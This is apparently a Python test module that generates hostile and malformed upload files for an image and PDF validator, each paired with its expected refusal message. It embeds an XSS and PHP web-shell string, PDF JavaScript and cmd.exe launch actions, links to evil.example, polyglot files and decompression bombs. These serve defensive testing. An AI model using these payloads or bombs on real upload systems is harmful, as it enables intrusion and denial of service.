"""Files as bad or unlucky senders send them, made here: each with its name, its bytes, and what is to become of it.

`words` are those of the refusal; where there are none, the file is taken in, and nothing but its looks comes through.
"""

import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from io import BytesIO
from typing import Any

from PIL import Image, PngImagePlugin

from tests.drawings import PLACE, drawn, from_a_telephone, jpeg, saved, with_text
from tests.pdfs import FONT, encrypted, in_object_stream, parts, pdf, stream, with_annotation, written

MARK = b"<script>alert('hostile')</script><?php system($_GET['c']); ?>"
TYPES = "must be a JPEG, PNG, WEBP or PDF"
TOO_HARD = "too complicated to be opened"
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


@dataclass(frozen=True)
class Hostile:
    """One file. `words` is what its refusal says; None if it is made harmless."""

    id: str
    data: bytes
    words: str | None = None
    name: str = "file"


def corpus() -> list[Hostile]:
    """All of them but those that keep their reader busy until it is stopped."""
    several = (
        _not_what_is_taken,
        _broken,
        _bombs,
        _pictures_with_more,
        _locked,
        _scripts,
        _actions,
        _contents,
        _shapes,
    )
    return [Hostile(*each) for some in several for each in some()]


def _not_what_is_taken() -> Iterator[tuple]:
    yield "zero bytes", b"", "is empty"
    yield "one byte", b"\xff", TYPES
    yield "eleven megabytes", jpeg() + b"\0" * 11_000_000, "10 MB or smaller"
    yield "svg with a script named png", b"<svg xmlns='http://www.w3.org/2000/svg'>" + MARK + b"</svg>", TYPES, "a.png"
    yield "html named pdf", b"<!doctype html><title>%PDF-1.7</title>" + MARK, TYPES, "a.pdf"
    yield "gif header and a script", b"GIF89a=1;" + MARK, TYPES
    yield "script before a pdf", b"alert(1);//" + pdf(), TYPES
    yield "heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 500, "Make a JPEG of it"
    yield "avif", saved(drawn(40, 30), "AVIF"), "Make a JPEG of it"
    for kind in ("TIFF", "BMP", "GIF", "ICO", "TGA", "JPEG2000"):
        yield kind.lower(), saved(drawn(64, 64), kind), TYPES
    yield "psd", b"8BPS\0\1" + b"\0" * 500, TYPES
    yield "postscript", b"%!PS-Adobe-3.0\n(x) run", TYPES
    yield "zip", _zipped("letter.txt"), TYPES
    yield "docx", _zipped("word/document.xml"), TYPES, "letter.docx"
    yield "program of windows", b"MZ\x90\0" + b"\0" * 500, TYPES, "photo.jpg.exe"
    yield "program of linux", b"\x7fELF\2\1\1" + b"\0" * 500, TYPES


def _broken() -> Iterator[tuple]:
    yield "jpeg cut off", jpeg()[:9000], "cut off"
    yield "png cut off", saved(drawn(600, 400), "PNG")[:300], "cut off"
    yield "webp cut off", saved(drawn(600, 400), "WEBP")[:200], "damaged"
    yield "pdf cut off", pdf()[:-30], "cut off"
    yield "pdf cut in the middle", pdf()[:500], "cut off"
    yield "jpeg of nothing", b"\xff\xd8\xff" + b"\0" * 500, "damaged"
    yield "png of nothing", b"\x89PNG\r\n\x1a\n" + b"\0" * 500, "damaged"
    yield "webp of nothing", b"RIFF\0\0\0\0WEBPVP8 " + b"\0" * 500, "damaged"
    yield "png without a size", _png(0, 0), "damaged"
    yield "pdf of nothing", b"%PDF-1.7\n%%EOF\n", "damaged"
    yield "pdf without pages", written({1: b"<< /Type /Catalog >>"}), "damaged"
    yield "pdf of noise", b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"%%EOF\n", "damaged"


def _bombs() -> Iterator[tuple]:
    yield "png bomb", _png(60_000, 60_000), "40 megapixels"
    yield "interlaced png bomb", _png(8000, 8000, interlaced=True), "40 megapixels"
    yield "webp bomb", _webp_bomb(), "40 megapixels"
    yield "strip of pixels", _png(17_000, 1), "16,000 pixels"
    yield "text that unpacks to 200 MB", _png(10, 10, _chunk(b"zTXt", b"a\0\0" + _packed(200))), "damaged"
    yield "profile that unpacks to 200 MB", _png(10, 10, _chunk(b"iCCP", b"a\0\0" + _packed(200))), "damaged"
    yield "pixels that unpack to 200 MB", _png(10, 10, pixels=_packed(200)), None
    huge = stream(_packed(400), b"/Filter /FlateDecode")
    yield "pdf that unpacks to 400 MB", pdf(page=b"/Thumb 10 0 R", more={10: huge}), None
    objects = stream(b"10 0 " + b"[" * 5_000_000, b"/Type /ObjStm /N 1 /First 5", packed=True)
    yield "pdf of brackets", pdf(page=b"/X 10 0 R", more={90: objects}), None
    yield "pdf of deep brackets", pdf(page=b"/X 10 0 R", more={10: b"[" * 200_000 + b"]" * 200_000}), None


def spinning() -> list[Hostile]:
    """Small files that keep their reader busy, or fill its memory, as long as it is let."""
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X %d 0 R >> >>"
    levels = {number: stream(b"/X Do " * 10, form % (number + 1)) for number in range(10, 22)}
    levels[22] = stream(b"0 0 9 9 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    spin = {**parts(content=b"/X Do"), **levels}
    spin[5] = spin[5].replace(b"/Font", b"/XObject << /X 10 0 R >> /Font")
    busy = stream(b"0 0 595 842 re f\n" * 200_000, packed=True)
    bomb = stream(zlib.compress(_packed(2000), 9), b"/Filter [/FlateDecode /FlateDecode]")
    return [
        Hostile("forms within forms", written(spin), TOO_HARD),
        Hostile("content that unpacks to 2 GB", written({**parts(), 4: bomb}), TOO_HARD),
        Hostile("rectangles without end", pdf(more={4: busy}), TOO_HARD),
    ]


def _pictures_with_more() -> Iterator[tuple]:
    yield "jpeg and html", jpeg() + MARK, None, "a.html"
    yield "png and php", saved(drawn(60, 40), "PNG") + MARK, None, "shell.php"
    yield "webp and php", saved(drawn(60, 40), "WEBP") + MARK, None
    yield "png and zip", saved(drawn(60, 40), "PNG") + _zipped("evil.js"), None
    yield "jpeg with a pdf inside", saved(drawn(60, 40), comment=pdf(catalog=b"/OpenAction 10 0 R")), None
    yield "jpeg with a comment", saved(drawn(60, 40), comment=MARK), None
    yield "place in exif", from_a_telephone(), None
    yield "words in png", with_text(), None
    yield "xmp and exif in webp", saved(drawn(60, 40), "WEBP", xmp=MARK, exif=_exif()), None
    yield "broken profile", saved(drawn(60, 40), icc_profile=MARK * 9), None
    yield "cut profile in png", saved(drawn(60, 40), "PNG", icc_profile=MARK), None
    moving: dict[str, Any] = {"save_all": True, "append_images": [drawn(60, 40, "L").convert("RGB")]}
    yield "moving png", saved(drawn(60, 40), "PNG", **moving), None
    yield "moving webp", saved(drawn(60, 40), "WEBP", **moving), None
    yield "several pictures in a jpeg", saved(drawn(60, 40), "MPO", **moving), None
    yield "sixteen bits", saved(Image.new("I;16", (60, 40), 128 * 257), "PNG"), None
    yield "four colours of print", saved(drawn(60, 40, "CMYK")), None
    yield "palette", saved(drawn(60, 40, "P"), "PNG"), None
    yield "one bit", saved(drawn(60, 40, "1"), "PNG"), None
    yield "transparent", saved(Image.new("RGBA", (60, 40), (200, 20, 30, 9)), "PNG"), None


def _locked() -> Iterator[tuple]:
    yield "password to open", encrypted(user=b"secret"), "protected with a password"
    yield "password to change", encrypted(), "protected against changes"


def _scripts() -> Iterator[tuple]:
    words, one = "contains a script", {10: SCRIPT}
    yield "script on opening", pdf(catalog=b"/OpenAction 10 0 R", more=one), words
    names = b"/Names << /JavaScript << /Names [(a) 10 0 R] >> >>"
    yield "script in the names", pdf(catalog=names, more=one), words
    yield "script on closing", pdf(catalog=b"/AA << /WC 10 0 R >>", more=one), words
    yield "script of a page", pdf(page=b"/AA << /O 10 0 R >>", more=one), words
    yield "script of an annotation", with_annotation(b"/Subtype /Link /A 11 0 R", {11: SCRIPT}), words
    form = b"/AcroForm << /Fields [10 0 R] >>"
    field = b"/Subtype /Widget /FT /Tx /T (a) /AA << /K 11 0 R >>"
    yield "script of a field", with_annotation(field, {11: SCRIPT}, form), words
    marked = b"/Outlines << /Type /Outlines /Count 1 /First 10 0 R /Last 10 0 R >>"
    yield "script of a bookmark", pdf(catalog=marked, more={10: b"<< /Title (a) /A 11 0 R >>", 11: SCRIPT}), words
    after = b"<< /S /URI /URI (https://fair.example) /Next [<< /S /GoTo /Next 11 0 R >>] >>"
    yield "script after an address", pdf(catalog=b"/OpenAction 10 0 R", more={10: after, 11: SCRIPT}), words
    escaped = b"<< /S /J#61v#61Script /#4aS (app.alert\\(1\\)) >>"
    yield "script with an escaped name", pdf(catalog=b"/OpenAction 10 0 R", more={10: escaped}), words
    apart = {10: b"<< /S 11 0 R /JS 12 0 R >>", 11: b"/JavaScript", 12: stream(b"app.alert(1)", packed=True)}
    yield "script in pieces", pdf(catalog=b"/OpenAction 10 0 R", more=apart), words
    yield "script in an object stream", in_object_stream(one, catalog=b"/OpenAction 10 0 R"), words
    yield "script of a page in an object stream", in_object_stream(one, page=b"/AA << /O 10 0 R >>"), words
    length = stream(b"x", b"/X << /Length 99999 >>")
    yield "script behind a false length", pdf(page=b"/X 10 0 R /Y 11 0 R", more={10: length, 11: SCRIPT}), words
    yield (
        "script in a later version",
        _later_version(b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>" % SCRIPT),
        words,
    )


def _actions() -> Iterator[tuple]:
    def link(action: bytes) -> bytes:
        return with_annotation(b"/Subtype /Link /A << %s >>" % action)

    program, sends = "starts a program", "runs or sends something"
    yield "launch", link(b"/S /Launch /F (cmd.exe)"), program
    opened = {10: b"<< /S /Launch /Win << /F (cmd.exe) >> >>"}
    yield "launch on opening", pdf(catalog=b"/OpenAction 10 0 R", more=opened), program
    yield "form that is sent", link(b"/S /SubmitForm /F (https://evil.example)"), sends
    yield "form that is filled", link(b"/S /ImportData /F (a.fdf)"), sends
    yield "another file", link(b"/S /GoToR /F (//evil.example/a.pdf) /D [0 /Fit]"), "opens another file"
    yield "a file inside a file", link(b"/S /GoToE /D [0 /Fit] /T << /R /C >>"), "other files inside"
    yield "film", link(b"/S /Rendition /OP 0"), "sound, film"
    yield "address", link(b"/S /URI /URI (https://evil.example/)"), None
    yield "place in the file", pdf(catalog=b"/OpenAction [5 0 R /Fit]"), None
    yield "address of all links", pdf(catalog=b"/URI << /Base (https://evil.example/) >>"), None


def _contents() -> Iterator[tuple]:
    files, media = "other files inside", "sound, film"
    inside = {10: b"<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>", 11: stream(MARK, b"/Type /EmbeddedFile")}
    names = b"/Names << /EmbeddedFiles << /Names [(a.exe) 10 0 R] >> >>"
    yield "a file inside", pdf(catalog=names, more=inside), files
    yield "a file beside a page", pdf(page=b"/AF [10 0 R]", more=inside), files
    bare = {10: inside[10].replace(b"/Type /Filespec", b""), 11: stream(MARK)}
    yield "a file without a type", pdf(page=b"/X 10 0 R", more=bare), files
    yield "a file in a note", with_annotation(b"/Subtype /FileAttachment /FS (a)"), files
    yield "a file in an object stream", in_object_stream({10: inside[10]}, catalog=names), files
    yield "flash", with_annotation(b"/Subtype /RichMedia /RichMediaContent << >>"), media
    yield "a model", with_annotation(b"/Subtype /3D"), media
    yield "a film", with_annotation(b"/Subtype /Movie /Movie << /F (a.avi) >>"), media
    yield "a sound", with_annotation(b"/Subtype /Sound"), media
    xfa = {10: stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")}
    yield "xfa", pdf(catalog=b"/AcroForm << /Fields [] /XFA 10 0 R >>", more=xfa), "runs or sends something"
    described = {10: stream(MARK, b"/Type /Metadata /Subtype /XML")}
    yield (
        "metadata",
        pdf(catalog=b"/Metadata 10 0 R", more=described, trailer=b"/Info << /Author (%s) >>" % b"Li"),
        None,
    )
    yield "script that nothing names", pdf(more={10: SCRIPT}), None
    yield "pdf and zip", pdf() + _zipped("evil.js"), None
    yield "pdf and html", pdf() + MARK, None, "a.html"


def _shapes() -> Iterator[tuple]:
    damaged, large = "damaged", "5 metres or less"
    yield "ten thousand pages", pdf(count=10_000), "30 pages or fewer"
    yield "thirty-one pages", pdf(count=31), "30 pages or fewer"
    yield "a billion pages said", pdf().replace(b"/Count 1", b"/Count 1000000000"), None
    yield "ten pages said, one there", pdf().replace(b"/Count 1", b"/Count 9"), damaged
    yield "giant page", pdf(box=b"0 0 900000 900000"), large
    yield "endless page", pdf(box=b"0 0 10 1000000"), large
    yield "page turned inside out", pdf(box=b"595 842 0 0"), None
    yield "page of no size", pdf(box=b"0 0 0 0"), None
    yield "thread of a page", pdf(box=b"0 0 14000 1"), None
    ring = {**parts(), 2: b"<< /Type /Pages /Count 1 /Kids [2 0 R] /Parent 2 0 R >>"}
    yield "pages in a ring", written(ring), damaged
    deep = {number: b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % (number + 1) for number in range(10, 3000)}
    yield "pages three thousand deep", written({**parts(), 2: deep[10], **deep, 3000: parts()[5]}), damaged
    yield "content in a ring", pdf(more={4: b"[4 0 R 4 0 R]"}), None
    yield "length in a ring", pdf(more={4: b"<< /Length 4 0 R >>\nstream\nq Q\nendstream"}), None
    table = pdf()
    yield "table before itself", table.replace(b"/Size 6", b"/Size 6 /Prev %d" % table.index(b"xref")), None
    foreign = {3: _unembedded(), 4: stream(b"BT /F1 9 Tf 60 700 Td <4E2D> Tj ET")}
    yield "foreign letters without their font", pdf(more=foreign), "lacks the fonts"
    unseen = stream(b"BT 3 Tr /F1 9 Tf 60 700 Td <4E2D> Tj ET")
    yield "unseen letters without their font", pdf(more={**foreign, 4: unseen}), None
    cyrillic = FONT[:-2] + b"/Encoding << /Differences [65 /afii10017 /afii10018] >> >>"
    yield (
        "letters that Latin lacks",
        pdf(more={3: cyrillic, 4: stream(b"BT /F1 9 Tf 60 700 Td (AB) Tj ET")}),
        ("lacks the fonts"),
    )


def _unembedded() -> bytes:
    return (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [<< /Type "
        b"/Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) "
        b"/Supplement 4 >> /FontDescriptor << /Type /FontDescriptor /FontName /STSong-Light /Flags 6 >> >>] >>"
    )


def _later_version(catalog: bytes) -> bytes:
    """A harmless file to whose end a new catalog was added."""
    first = pdf()
    place, table = len(first), first.index(b"xref")
    changed = first + b"1 0 obj\n%s\nendobj\n" % catalog
    end = b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    return changed + end % (place, table, len(changed))


def _zipped(name: str) -> bytes:
    file = BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(name, MARK)
    return file.getvalue()


def _exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010E] = PLACE
    return exif


def _packed(megabytes: int) -> bytes:
    """So many megabytes of nothing, deflated, without ever being unpacked."""
    packer = zlib.compressobj(9, wbits=-15)
    one = packer.compress(b"\0" * 1_000_000) + packer.flush(zlib.Z_FULL_FLUSH)  # stands alone, so it can be repeated
    size = megabytes * 1_000_000
    return b"\x78\xda" + one * megabytes + b"\3\0" + struct.pack(">HH", size % 65521, 1)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, more: bytes = b"", *, pixels: bytes = b"", interlaced: bool = False) -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, interlaced))
    pixels = pixels or zlib.compress(b"\0" * 31 * 10)
    return PngImagePlugin._MAGIC + head + more + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")


def _webp_bomb() -> bytes:
    """A head that says 16,383 by 16,383, and nothing behind it."""
    head = b"\x2f" + struct.pack("<I", 16382 | 16382 << 14) + b"\0" * 40
    body = b"WEBPVP8L" + struct.pack("<I", len(head)) + head
    return b"RIFF" + struct.pack("<I", len(body)) + body
